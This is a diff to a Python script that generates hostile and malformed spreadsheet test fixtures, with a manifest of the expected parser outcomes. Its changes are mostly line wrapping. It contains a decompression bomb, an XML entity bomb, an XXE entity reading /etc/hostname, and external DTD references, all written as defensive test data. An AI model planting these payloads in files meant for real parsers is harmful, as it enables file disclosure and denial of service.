@@ -1,9 +1,11 @@
 #!/usr/bin/env python3
-"""Makes tests/files/odd: broken, odd and hostile files, and manifest.csv, which says of each what is odd and what reading it must give.
+"""Makes tests/files/odd: broken, odd and hostile files, and manifest.csv, which says of each what
+is odd and what reading it must give.
 
-Every file is made here, part by part, from made-up rows: nothing was taken from elsewhere. The same script gives the same bytes. In the
-manifest, problems are `code@cell`, of several sheets `code@sheet!cell`; rows are `table read/refused`. What is expected was written by
-hand, before it was read.
+Every file is made here, part by part, from made-up rows: nothing was taken from elsewhere. The same
+script gives the same bytes. In the manifest, problems are `code@cell`, of several sheets
+`code@sheet!cell`; rows are `table read/refused`. What is expected was written by hand, before it
+was read.
 """
 
 import bz2
@@ -69,12 +71,19 @@ class Odd:
 FILES: list[Odd] = []
 
 
-def odd(name: str, oddity: str, data: bytes, problems: str = "", rows: str = "coverage 2/0") -> None:
+def odd(
+    name: str, oddity: str, data: bytes, problems: str = "", rows: str = "coverage 2/0"
+) -> None:
     """One more file. By itself it is read whole: two rows of coverage."""
-    unread = problems.split("@")[0] in ("unreadable", "password", "no_table", "memory_exceeded") or problems.partition("@")[0].startswith(
-        ("too_", "unpacked", "file_too")
+    unread = problems.split("@")[0] in (
+        "unreadable",
+        "password",
+        "no_table",
+        "memory_exceeded",
+    ) or problems.partition("@")[0].startswith(("too_", "unpacked", "file_too"))
+    FILES.append(
+        Odd(name, oddity, data, problems, "" if unread and rows == "coverage 2/0" else rows)
     )
-    FILES.append(Odd(name, oddity, data, problems, "" if unread and rows == "coverage 2/0" else rows))
 
 
 HEADERS = ["cycle", "state", "objective", "status", "source"]
@@ -82,7 +91,17 @@ ROWS = [[2020, "SYR", 11, "under_way", "report"], [2020, "TUN", 7, "planned", "r
 COVERAGE = [HEADERS, *ROWS]
 TEXT = "\n".join(",".join(map(str, row)) for row in COVERAGE) + "\n"
 EVENTS = [
-    ["event", "cycle", "kind", "start_date", "end_date", "status", "title_en", "title_ar", "source"],
+    [
+        "event",
+        "cycle",
+        "kind",
+        "start_date",
+        "end_date",
+        "status",
+        "title_en",
+        "title_ar",
+        "source",
+    ],
     ["w1", 2020, "workshop", "2020-08-13", "2020-08-13", "held", "Session", "دورة", "report"],
 ]
 PEOPLE = ["event", "state", "category", "headcount"]
@@ -101,7 +120,12 @@ def people(*heads: object, rest: str = "government") -> bytes:
         {
             "participants": [
                 PEOPLE,
-                *(["w1", state, rest, head] for state, head in zip(("SYR", "TUN", "LBN", "JOR", "OMN", "EGY", "QAT"), heads, strict=False)),
+                *(
+                    ["w1", state, rest, head]
+                    for state, head in zip(
+                        ("SYR", "TUN", "LBN", "JOR", "OMN", "EGY", "QAT"), heads, strict=False
+                    )
+                ),
             ]
         }
     )
@@ -113,7 +137,9 @@ def reviews(*days: object) -> list[list[object]]:
         ["cycle", "state", "as_of", "stage"],
         *(
             [2020, state, day, "drafting"]
-            for state, day in zip(("SYR", "TUN", "LBN", "JOR", "OMN", "EGY", "QAT", "KWT", "IRQ"), days, strict=False)
+            for state, day in zip(
+                ("SYR", "TUN", "LBN", "JOR", "OMN", "EGY", "QAT", "KWT", "IRQ"), days, strict=False
+            )
         ),
     ]
 
@@ -125,7 +151,10 @@ def with_part(name: str, content: bytes) -> bytes:
 
 def sheet1(content: str | bytes, **details: str) -> bytes:
     """The good workbook with other XML in the place of its sheet."""
-    return xlsx({"coverage": COVERAGE}, {SHEET1: content if isinstance(content, bytes) else content.encode()})
+    return xlsx(
+        {"coverage": COVERAGE},
+        {SHEET1: content if isinstance(content, bytes) else content.encode()},
+    )
 
 
 def not_spreadsheets() -> None:
@@ -136,9 +165,24 @@ def not_spreadsheets() -> None:
         UNREADABLE,
     )
     odd("text.xlsx", "CSV called .xlsx", TEXT.encode(), UNREADABLE)
-    odd("picture.xlsx", "a picture called .xlsx", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0", UNREADABLE)
-    odd("picture.csv", "a picture called .csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0", UNREADABLE)
-    odd("document.pdf.xlsx", "a PDF called .xlsx", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", UNREADABLE)
+    odd(
+        "picture.xlsx",
+        "a picture called .xlsx",
+        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0",
+        UNREADABLE,
+    )
+    odd(
+        "picture.csv",
+        "a picture called .csv",
+        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0",
+        UNREADABLE,
+    )
+    odd(
+        "document.pdf.xlsx",
+        "a PDF called .xlsx",
+        b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
+        UNREADABLE,
+    )
     odd(
         "letter.xlsx",
         "a text document in the same kind of archive",
@@ -146,10 +190,25 @@ def not_spreadsheets() -> None:
         UNREADABLE,
     )
     odd("archive.xlsx", "an archive of a text", zipped({"hello.txt": b"hello"}), UNREADABLE)
-    odd("workbook-in-archive.xlsx", "an archive with a workbook in it", zipped({"report.xlsx": GOOD}), UNREADABLE)
-    odd("program.csv", "a program called .csv", b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(64), UNREADABLE)
+    odd(
+        "workbook-in-archive.xlsx",
+        "an archive with a workbook in it",
+        zipped({"report.xlsx": GOOD}),
+        UNREADABLE,
+    )
+    odd(
+        "program.csv",
+        "a program called .csv",
+        b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + bytes(64),
+        UNREADABLE,
+    )
     odd("packed.xlsx", "a gzip of a workbook", gzip.compress(GOOD, mtime=0), UNREADABLE)
-    odd("letter.xls", "an old text document in the same container", compound({"WordDocument": b"\xec\xa5\xc1\0" + bytes(600)}), UNREADABLE)
+    odd(
+        "letter.xls",
+        "an old text document in the same container",
+        compound({"WordDocument": b"\xec\xa5\xc1\0" + bytes(600)}),
+        UNREADABLE,
+    )
     odd("rich.xls", "rich text called .xls", b"{\\rtf1\\ansi cycle\\par}", UNREADABLE)
     odd(
         "xml-2003.xls",
@@ -166,7 +225,12 @@ def not_spreadsheets() -> None:
     odd("only-bom.csv", "nothing but a byte order mark", b"\xef\xbb\xbf", "no_table@")
     odd("only-newlines.csv", "nothing but line ends", b"\r\n\r\n\r\n", "no_table@")
     odd("magic-only.xlsx", "the first four bytes of an archive", b"PK\3\4", UNREADABLE)
-    odd("magic-only.xls", "the first bytes of an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), UNREADABLE)
+    odd(
+        "magic-only.xls",
+        "the first bytes of an old workbook",
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
+        UNREADABLE,
+    )
 
 
 def damaged() -> None:
@@ -174,14 +238,44 @@ def damaged() -> None:
     odd("cut-tail.xlsx", "the last 30 bytes are missing", GOOD[:-30], UNREADABLE)
     odd("cut-head.xlsx", "the first 100 bytes are missing", GOOD[100:], UNREADABLE)
     odd("cut.xls", "an old workbook of which half is missing", OLD[: len(OLD) // 2], UNREADABLE)
-    odd("cut.ods", "an OpenDocument file of which half is missing", OPEN[: len(OPEN) // 2], UNREADABLE)
-    odd("cut.xlsb", "a binary workbook of which half is missing", xlsb({"coverage": COVERAGE})[:900], UNREADABLE)
-    odd("cut-in-quotes.csv", "cut off within quotes", TEXT.encode() + b'2020,LBN,8,planned,"as the rep', rows="coverage 3/0")
+    odd(
+        "cut.ods",
+        "an OpenDocument file of which half is missing",
+        OPEN[: len(OPEN) // 2],
+        UNREADABLE,
+    )
+    odd(
+        "cut.xlsb",
+        "a binary workbook of which half is missing",
+        xlsb({"coverage": COVERAGE})[:900],
+        UNREADABLE,
+    )
+    odd(
+        "cut-in-quotes.csv",
+        "cut off within quotes",
+        TEXT.encode() + b'2020,LBN,8,planned,"as the rep',
+        rows="coverage 3/0",
+    )
     place = GOOD.index(SHEET1.encode()) + 100
-    odd("bit.xlsx", "one byte within a sheet is wrong", GOOD[:place] + bytes([GOOD[place] ^ 0xFF]) + GOOD[place + 1 :], UNREADABLE)
+    odd(
+        "bit.xlsx",
+        "one byte within a sheet is wrong",
+        GOOD[:place] + bytes([GOOD[place] ^ 0xFF]) + GOOD[place + 1 :],
+        UNREADABLE,
+    )
     book = parts({"coverage": COVERAGE})
-    odd("no-workbook.xlsx", "the list of sheets is missing", zipped({k: v for k, v in book.items() if k != "xl/workbook.xml"}), "no_table@")
-    odd("no-sheet.xlsx", "the only sheet is missing", zipped({k: v for k, v in book.items() if k != SHEET1}), UNREADABLE)
+    odd(
+        "no-workbook.xlsx",
+        "the list of sheets is missing",
+        zipped({k: v for k, v in book.items() if k != "xl/workbook.xml"}),
+        "no_table@",
+    )
+    odd(
+        "no-sheet.xlsx",
+        "the only sheet is missing",
+        zipped({k: v for k, v in book.items() if k != SHEET1}),
+        UNREADABLE,
+    )
     odd(
         "no-relations.xlsx",
         "it is missing where the sheets are",
@@ -193,18 +287,45 @@ def damaged() -> None:
         "the list of types is missing, which nobody needs",
         zipped({k: v for k, v in book.items() if k != "[Content_Types].xml"}),
     )
-    odd("no-styles.xlsx", "the styles are missing", zipped({k: v for k, v in book.items() if k != "xl/styles.xml"}))
-    odd("open-tags.xlsx", "a sheet whose XML breaks off", sheet1(worksheet(COVERAGE)[:-60]), UNREADABLE)
-    odd("crossed-tags.xlsx", "a sheet whose tags cross", sheet1(worksheet(COVERAGE).replace("</row>", "</c>", 1)))
-    odd("half-a-sheet.xlsx", "rows after the end of the sheet's XML", sheet1(worksheet(COVERAGE) + "<row/>"))
+    odd(
+        "no-styles.xlsx",
+        "the styles are missing",
+        zipped({k: v for k, v in book.items() if k != "xl/styles.xml"}),
+    )
+    odd(
+        "open-tags.xlsx",
+        "a sheet whose XML breaks off",
+        sheet1(worksheet(COVERAGE)[:-60]),
+        UNREADABLE,
+    )
+    odd(
+        "crossed-tags.xlsx",
+        "a sheet whose tags cross",
+        sheet1(worksheet(COVERAGE).replace("</row>", "</c>", 1)),
+    )
+    odd(
+        "half-a-sheet.xlsx",
+        "rows after the end of the sheet's XML",
+        sheet1(worksheet(COVERAGE) + "<row/>"),
+    )
     odd(
         "no-strings.xlsx",
         "cells point to a list of texts that is missing",
         sheet1(sheet_of('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')),
         UNREADABLE,
     )
-    odd("beyond-strings.xlsx", "a cell points behind the end of the list of texts", strings(["cycle"], 7), UNREADABLE)
-    odd("unknown-packing.xlsx", "packed in a way that no program knows", GOOD.replace(b"\x08\0\0\0", b"\x5b\0\0\0"), UNREADABLE)
+    odd(
+        "beyond-strings.xlsx",
+        "a cell points behind the end of the list of texts",
+        strings(["cycle"], 7),
+        UNREADABLE,
+    )
+    odd(
+        "unknown-packing.xlsx",
+        "packed in a way that no program knows",
+        GOOD.replace(b"\x08\0\0\0", b"\x5b\0\0\0"),
+        UNREADABLE,
+    )
     odd("locked-archive.xlsx", "the archive itself is locked", locked_archive(GOOD), "password@")
     odd(
         "twice.xlsx",
@@ -214,11 +335,17 @@ def damaged() -> None:
         "coverage 0/0",
     )
     odd("garbage-behind.xlsx", "something stands behind the archive", GOOD + b"\0" * 100)
-    odd("garbage-before.xlsx", "something stands before the archive", b"\0" * 100 + GOOD, UNREADABLE)
+    odd(
+        "garbage-before.xlsx", "something stands before the archive", b"\0" * 100 + GOOD, UNREADABLE
+    )
     odd("stored.xlsx", "an archive without packing", zipped(book, zipfile.ZIP_STORED))
     odd("bzip2.xlsx", "an archive packed by bzip2", zipped(book, zipfile.ZIP_BZIP2), UNREADABLE)
     odd("lzma.xlsx", "an archive packed by LZMA", zipped(book, zipfile.ZIP_LZMA), UNREADABLE)
-    odd("folders.xlsx", "an archive with entries for its folders", zipped({"xl/": b"", "xl/worksheets/": b"", **book}))
+    odd(
+        "folders.xlsx",
+        "an archive with entries for its folders",
+        zipped({"xl/": b"", "xl/worksheets/": b"", **book}),
+    )
     odd(
         "upwards.xlsx",
         "an archive with parts that would be unpacked elsewhere",
@@ -235,7 +362,12 @@ def damaged() -> None:
         contained(stream({"coverage": COVERAGE})[:300] + b"\xff" * 4000),
         UNREADABLE,
     )
-    odd("looping-chain.xls", "an old container whose chain of sectors runs in a circle", looping(OLD), UNREADABLE)
+    odd(
+        "looping-chain.xls",
+        "an old container whose chain of sectors runs in a circle",
+        looping(OLD),
+        UNREADABLE,
+    )
 
 
 def strings(texts: list[str], index: int = 0) -> bytes:
@@ -244,7 +376,10 @@ def strings(texts: list[str], index: int = 0) -> bytes:
     listed = f'{HEAD}<sst xmlns="{MAIN}" count="1" uniqueCount="{len(texts)}">{said}</sst>'
     return xlsx(
         {"coverage": sheet_of(f'<row r="1"><c r="A1" t="s"><v>{index}</v></c></row>')},
-        {"xl/sharedStrings.xml": listed.encode(), "xl/_rels/workbook.xml.rels": related("sharedStrings", "sharedStrings.xml")},
+        {
+            "xl/sharedStrings.xml": listed.encode(),
+            "xl/_rels/workbook.xml.rels": related("sharedStrings", "sharedStrings.xml"),
+        },
     )
 
 
@@ -252,7 +387,9 @@ def related(kind: str, target: str, mode: str = "") -> bytes:
     """Where the parts of a workbook are, with one more."""
     book = parts({"coverage": COVERAGE})["xl/_rels/workbook.xml.rels"].decode()
     return book.replace(
-        "</Relationships>", f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
+        "</Relationships>",
+        f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" '
+        f'Target="{target}"{mode}/></Relationships>',
     ).encode()
 
 
@@ -274,7 +411,12 @@ def looping(data: bytes) -> bytes:
 
 
 def passwords() -> None:
-    locked = compound({"EncryptionInfo": b"\4\0\4\0\x40\0\0\0<encryption/>", "EncryptedPackage": bytes(range(256)) * 20})
+    locked = compound(
+        {
+            "EncryptionInfo": b"\4\0\4\0\x40\0\0\0<encryption/>",
+            "EncryptedPackage": bytes(range(256)) * 20,
+        }
+    )
     odd("locked.xlsx", "a workbook with a password", locked, "password@")
     odd(
         "locked.xls",
@@ -290,7 +432,10 @@ def passwords() -> None:
     odd(
         "locked.ods",
         "an OpenDocument file with a password",
-        ods({"coverage": COVERAGE}, more={"content.xml": bytes(range(256)) * 4, "META-INF/manifest.xml": manifest}),
+        ods(
+            {"coverage": COVERAGE},
+            more={"content.xml": bytes(range(256)) * 4, "META-INF/manifest.xml": manifest},
+        ),
         "password@",
     )
     odd(
@@ -309,7 +454,12 @@ def with_record(records: bytes, kind: int, content: bytes) -> bytes:
 def bombs() -> None:
     shell = sheet_of("").encode()
     middle = shell.index(b"</sheetData>")
-    odd("bomb.xlsx", "600 MB of nothing in 600 kB", bomb(SHEET1, 600 * 2**20, shell[:middle], shell[middle:]), "unpacked_too_large@")
+    odd(
+        "bomb.xlsx",
+        "600 MB of nothing in 600 kB",
+        bomb(SHEET1, 600 * 2**20, shell[:middle], shell[middle:]),
+        "unpacked_too_large@",
+    )
     book = parts({"coverage": COVERAGE})
     odd(
         "bomb-rows.xlsx",
@@ -353,51 +503,115 @@ def bombs() -> None:
     odd(
         "entities-list.xlsx",
         "the same in the list of sheets",
-        with_part("xl/workbook.xml", entity_bomb(parts({"coverage": COVERAGE})["xl/workbook.xml"].decode(), "coverage").encode()),
+        with_part(
+            "xl/workbook.xml",
+            entity_bomb(
+                parts({"coverage": COVERAGE})["xl/workbook.xml"].decode(), "coverage"
+            ).encode(),
+        ),
         UNREADABLE,
     )
     odd(
         "entities.ods",
         "the same in an OpenDocument file",
-        ods({"coverage": [HEADERS, [*ROWS[0][:4], Raw(' office:value-type="string"', "<text:p>&a9;</text:p>")]]}, doctype=BOMB),
+        ods(
+            {
+                "coverage": [
+                    HEADERS,
+                    [*ROWS[0][:4], Raw(' office:value-type="string"', "<text:p>&a9;</text:p>")],
+                ]
+            },
+            doctype=BOMB,
+        ),
         UNREADABLE,
     )
-    odd("entities-flat.xlsx", "one long entity, named 100,000 times", sheet1(flat_entities()), UNREADABLE)
+    odd(
+        "entities-flat.xlsx",
+        "one long entity, named 100,000 times",
+        sheet1(flat_entities()),
+        UNREADABLE,
+    )
     outside = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/hostname">]>'
     odd(
         "outside.xlsx",
         "an entity from a file of the server",
-        sheet1(worksheet([HEADERS, [*ROWS[0][:4], Raw(' t="str"', "<v>&out;</v>")]]).replace(HEAD, HEAD + outside)),
+        sheet1(
+            worksheet([HEADERS, [*ROWS[0][:4], Raw(' t="str"', "<v>&out;</v>")]]).replace(
+                HEAD, HEAD + outside
+            )
+        ),
         UNREADABLE,
     )
     odd(
         "outside.ods",
         "the same in an OpenDocument file",
-        ods({"coverage": [HEADERS, [*ROWS[0][:4], Raw(' office:value-type="string"', "<text:p>&out;</text:p>")]]}, doctype=outside),
+        ods(
+            {
+                "coverage": [
+                    HEADERS,
+                    [*ROWS[0][:4], Raw(' office:value-type="string"', "<text:p>&out;</text:p>")],
+                ]
+            },
+            doctype=outside,
+        ),
         UNREADABLE,
     )
     odd(
         "outside-address.xlsx",
         "a document type from the web, which is not fetched",
-        sheet1(worksheet(COVERAGE).replace(HEAD, HEAD + '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">')),
+        sheet1(
+            worksheet(COVERAGE).replace(
+                HEAD, HEAD + '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">'
+            )
+        ),
     )
     odd(
         "outside-parameter.xlsx",
         "an entity that names another one elsewhere, which is not fetched",
-        sheet1(worksheet(COVERAGE).replace(HEAD, HEAD + '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p">%p;]>')),
+        sheet1(
+            worksheet(COVERAGE).replace(
+                HEAD, HEAD + '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p">%p;]>'
+            )
+        ),
     )
-    odd("deep.xlsx", "XML of 50,000 tags within each other", sheet1(worksheet(COVERAGE, after="<x>" * 50_000 + "</x>" * 50_000)))
-    odd("deep.ods", "the same in an OpenDocument file", ods({"coverage": "<text:p>" * 50_000 + "</text:p>" * 50_000}), "no_table@")
+    odd(
+        "deep.xlsx",
+        "XML of 50,000 tags within each other",
+        sheet1(worksheet(COVERAGE, after="<x>" * 50_000 + "</x>" * 50_000)),
+    )
+    odd(
+        "deep.ods",
+        "the same in an OpenDocument file",
+        ods({"coverage": "<text:p>" * 50_000 + "</text:p>" * 50_000}),
+        "no_table@",
+    )
     many = " ".join(f'a{i}=""' for i in range(20_000))
-    odd("attributes.xlsx", "a tag of 20,000 attributes", sheet1(worksheet(COVERAGE).replace("<sheetData>", f"<sheetData {many}>")))
-    odd("long-name.xlsx", "a tag with a name of 1 MB", sheet1(worksheet(COVERAGE, after=f"<{'x' * 2**20}/>")))
+    odd(
+        "attributes.xlsx",
+        "a tag of 20,000 attributes",
+        sheet1(worksheet(COVERAGE).replace("<sheetData>", f"<sheetData {many}>")),
+    )
+    odd(
+        "long-name.xlsx",
+        "a tag with a name of 1 MB",
+        sheet1(worksheet(COVERAGE, after=f"<{'x' * 2**20}/>")),
+    )
 
 
-BOMB = "<!DOCTYPE x [" + '<!ENTITY a0 "aaaaaaaaaa">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
+BOMB = (
+    "<!DOCTYPE x ["
+    + '<!ENTITY a0 "aaaaaaaaaa">'
+    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+    + "]>"
+)
 
 
 def entity_bomb(xml: str, instead: str) -> str:
-    return xml.replace(HEAD, HEAD + BOMB).replace(f">{instead}<", ">&a9;<", 1).replace(f'"{instead}"', '"&a9;"', 1)
+    return (
+        xml.replace(HEAD, HEAD + BOMB)
+        .replace(f">{instead}<", ">&a9;<", 1)
+        .replace(f'"{instead}"', '"&a9;"', 1)
+    )
 
 
 def flat_entities() -> str:
@@ -407,7 +621,9 @@ def flat_entities() -> str:
 
 @cache
 def bzip2_bomb(megabytes: int) -> bytes:
-    """An archive of one part of spaces, packed by bzip2: as many blocks as needed, each the same."""
+    """An archive of one part of spaces, packed by bzip2: as many blocks as needed, each the
+    same.
+    """
     packed = bz2.compress(b" " * megabytes * 2**20)
     made = BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED) as archive:
@@ -435,13 +651,21 @@ def claims() -> None:
     odd(
         "far-column.xlsx",
         "a cell in the last column",
-        sheet1(worksheet(COVERAGE).replace("</sheetData>", '<row r="9"><c r="XFD9"><v>1</v></c></row></sheetData>')),
+        sheet1(
+            worksheet(COVERAGE).replace(
+                "</sheetData>", '<row r="9"><c r="XFD9"><v>1</v></c></row></sheetData>'
+            )
+        ),
         "too_many_columns@",
     )
     odd(
         "far-row.xlsx",
         "a cell in the last row",
-        sheet1(worksheet(COVERAGE).replace("</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')),
+        sheet1(
+            worksheet(COVERAGE).replace(
+                "</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
+            )
+        ),
         "too_many_rows@",
     )
     odd(
@@ -449,7 +673,11 @@ def claims() -> None:
         "a sheet that claims 1,048,576 x 16,384 cells and holds fifteen",
         sheet1(worksheet(COVERAGE, before='<dimension ref="A1:XFD1048576"/>')),
     )
-    odd("claims-less.xlsx", "a sheet that claims less than it holds", sheet1(worksheet(COVERAGE, before='<dimension ref="A1:B2"/>')))
+    odd(
+        "claims-less.xlsx",
+        "a sheet that claims less than it holds",
+        sheet1(worksheet(COVERAGE, before='<dimension ref="A1:B2"/>')),
+    )
     odd(
         "claims-nonsense.xlsx",
         "a sheet that claims to end before it begins",
@@ -464,16 +692,35 @@ def claims() -> None:
     odd(
         "styled-far.xlsx",
         "the last cell is styled and empty, as programs leave it",
-        sheet1(worksheet(COVERAGE).replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>')),
+        sheet1(
+            worksheet(COVERAGE).replace(
+                "</sheetData>", '<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
+            )
+        ),
     )
     odd(
         "row-beyond.xlsx",
         "a row with a number that no program knows",
-        sheet1(worksheet(COVERAGE).replace("</sheetData>", '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>')),
+        sheet1(
+            worksheet(COVERAGE).replace(
+                "</sheetData>",
+                '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>',
+            )
+        ),
         "too_large@",
     )
-    odd("row-zero.xlsx", "a cell in row 0", sheet1(worksheet(COVERAGE).replace('r="A3"', 'r="A0"')), UNREADABLE)
-    odd("row-negative.xlsx", "a row below zero", sheet1(worksheet(COVERAGE).replace('<row r="3">', '<row r="-3">')), UNREADABLE)
+    odd(
+        "row-zero.xlsx",
+        "a cell in row 0",
+        sheet1(worksheet(COVERAGE).replace('r="A3"', 'r="A0"')),
+        UNREADABLE,
+    )
+    odd(
+        "row-negative.xlsx",
+        "a row below zero",
+        sheet1(worksheet(COVERAGE).replace('<row r="3">', '<row r="-3">')),
+        UNREADABLE,
+    )
     odd(
         "column-beyond.xlsx",
         "a column with a name that no program knows",
@@ -482,41 +729,81 @@ def claims() -> None:
     )
     odd(
         "column-next.xlsx",
-        "a column beyond the last that a program has, in a row of its own: few places, and a minute of calamine's time",
-        sheet1(worksheet(COVERAGE).replace("</sheetData>", '<row r="4"><c r="ZZZZ4"><v>1</v></c></row></sheetData>')),
+        "a column beyond the last that a program has, in a row of its own: few places, and a "
+        "minute of calamine's time",
+        sheet1(
+            worksheet(COVERAGE).replace(
+                "</sheetData>", '<row r="4"><c r="ZZZZ4"><v>1</v></c></row></sheetData>'
+            )
+        ),
         "too_large@",
     )
-    odd("places-missing.xlsx", "cells that do not say where they are", sheet1(without_places(worksheet(COVERAGE))))
-    odd("places-nonsense.xlsx", "a cell whose place is no place", sheet1(worksheet(COVERAGE).replace('r="B3"', 'r="??"')), UNREADABLE)
+    odd(
+        "places-missing.xlsx",
+        "cells that do not say where they are",
+        sheet1(without_places(worksheet(COVERAGE))),
+    )
+    odd(
+        "places-nonsense.xlsx",
+        "a cell whose place is no place",
+        sheet1(worksheet(COVERAGE).replace('r="B3"', 'r="??"')),
+        UNREADABLE,
+    )
     odd("rows-backwards.xlsx", "rows in the wrong order", sheet1(backwards()))
     odd(
         "cell-twice.xlsx",
         "a cell that stands twice",
         sheet1(
-            worksheet(COVERAGE).replace("</row>", '<c r="C2"><v>12</v></c></row>', 2).replace('<c r="C2"><v>12</v></c></row>', "</row>", 1)
+            worksheet(COVERAGE)
+            .replace("</row>", '<c r="C2"><v>12</v></c></row>', 2)
+            .replace('<c r="C2"><v>12</v></c></row>', "</row>", 1)
         ),
     )
     wide = [[*HEADERS, *(f"extra {i}" for i in range(196))], [*ROWS[0], *range(196)]]
     odd("columns-201.xlsx", "201 columns", xlsx({"coverage": wide}), "too_many_columns@")
-    odd("columns-201.csv", "201 columns", "\n".join(",".join(map(str, row)) for row in wide).encode(), "too_many_columns@")
+    odd(
+        "columns-201.csv",
+        "201 columns",
+        "\n".join(",".join(map(str, row)) for row in wide).encode(),
+        "too_many_columns@",
+    )
     styled = [*COVERAGE, [None] * 300 + [Raw(' s="1"')]]
-    odd("column-styled-far.xlsx", "a cell far to the right that is styled and empty", xlsx({"coverage": styled}))
-    odd("claims.xls", "an old sheet that claims 2 billion rows", claiming(OLD, (0, 2**31, 0, 4)), "too_large@")
-    odd("claims-backwards.xls", "an old sheet that ends before it begins", claiming(OLD, (66, 2, 0, 4)), UNREADABLE)
+    odd(
+        "column-styled-far.xlsx",
+        "a cell far to the right that is styled and empty",
+        xlsx({"coverage": styled}),
+    )
+    odd(
+        "claims.xls",
+        "an old sheet that claims 2 billion rows",
+        claiming(OLD, (0, 2**31, 0, 4)),
+        "too_large@",
+    )
+    odd(
+        "claims-backwards.xls",
+        "an old sheet that ends before it begins",
+        claiming(OLD, (66, 2, 0, 4)),
+        UNREADABLE,
+    )
     odd(
         "far-cells.xlsb",
         "a binary workbook with two cells as far apart as can be",
         xlsb({"coverage": [["cycle"]]}, places=[(1_048_575, 16_383, 1.0)]),
         "too_large@",
     )
-    odd("claims-all.xlsb", "a binary workbook that claims all cells there can be", xlsb({"coverage": COVERAGE}, claim=(1_048_575, 16_383)))
+    odd(
+        "claims-all.xlsb",
+        "a binary workbook that claims all cells there can be",
+        xlsb({"coverage": COVERAGE}, claim=(1_048_575, 16_383)),
+    )
     odd(
         "repeated.ods",
         "one row, said to stand a million times with 16,384 cells",
         ods(
             {
                 "coverage": '<table:table-row table:number-rows-repeated="1048576">'
-                '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell>'
+                '<table:table-cell table:number-columns-repeated="16384" '
+                'office:value-type="string"><text:p>x</text:p></table:table-cell>'
                 "</table:table-row>"
             }
         ),
@@ -548,7 +835,13 @@ def claims() -> None:
     odd(
         "repeated-nonsense.ods",
         "a row repeated minus three times",
-        ods({"coverage": ods_rows(COVERAGE).replace("<table:table-row>", '<table:table-row table:number-rows-repeated="-3">', 1)}),
+        ods(
+            {
+                "coverage": ods_rows(COVERAGE).replace(
+                    "<table:table-row>", '<table:table-row table:number-rows-repeated="-3">', 1
+                )
+            }
+        ),
         UNREADABLE,
     )
     odd(
@@ -580,38 +873,79 @@ def active() -> None:
     odd(
         "macros.xlsm",
         "a workbook with macros",
-        xlsx({"coverage": COVERAGE}, {**macro, "xl/_rels/workbook.xml.rels": related("vbaProject", "vbaProject.bin")}),
+        xlsx(
+            {"coverage": COVERAGE},
+            {**macro, "xl/_rels/workbook.xml.rels": related("vbaProject", "vbaProject.bin")},
+        ),
         "macros_ignored@",
     )
-    odd("macros-hidden.xlsx", "macros in a workbook that says it has none", xlsx({"coverage": COVERAGE}, macro), "macros_ignored@")
+    odd(
+        "macros-hidden.xlsx",
+        "macros in a workbook that says it has none",
+        xlsx({"coverage": COVERAGE}, macro),
+        "macros_ignored@",
+    )
     odd(
         "macros.xls",
         "an old workbook with macros",
-        compound({"Workbook": stream({"coverage": COVERAGE}), "_VBA_PROJECT_CUR": b"Sub Auto_Open()"}),
+        compound(
+            {"Workbook": stream({"coverage": COVERAGE}), "_VBA_PROJECT_CUR": b"Sub Auto_Open()"}
+        ),
         "macros_ignored@",
     )
     book = '<externalBook r:id="rId1"><sheetNames><sheetName val="x"/></sheetNames></externalBook>'
-    link = f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}">{book}</externalLink>'.encode()
+    link = (
+        f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}">{book}</externalLink>'.encode()
+    )
     where = f'<Relationship Id="rId1" Type="{RELATIONS}/externalLinkPath" Target="http://127.0.0.1:9/other.xlsx" TargetMode="External"/>'
-    target = f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{where}</Relationships>'.encode()
+    target = (
+        f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{where}</Relationships>'.encode()
+    )
     linked = {
         "xl/externalLinks/externalLink1.xml": link,
         "xl/externalLinks/_rels/externalLink1.xml.rels": target,
         "xl/_rels/workbook.xml.rels": related("externalLink", "externalLinks/externalLink1.xml"),
     }
     rows = [HEADERS, [*ROWS[0][:2], Raw("", "<f>[1]x!A1</f><v>11</v>"), *ROWS[0][3:]], ROWS[1]]
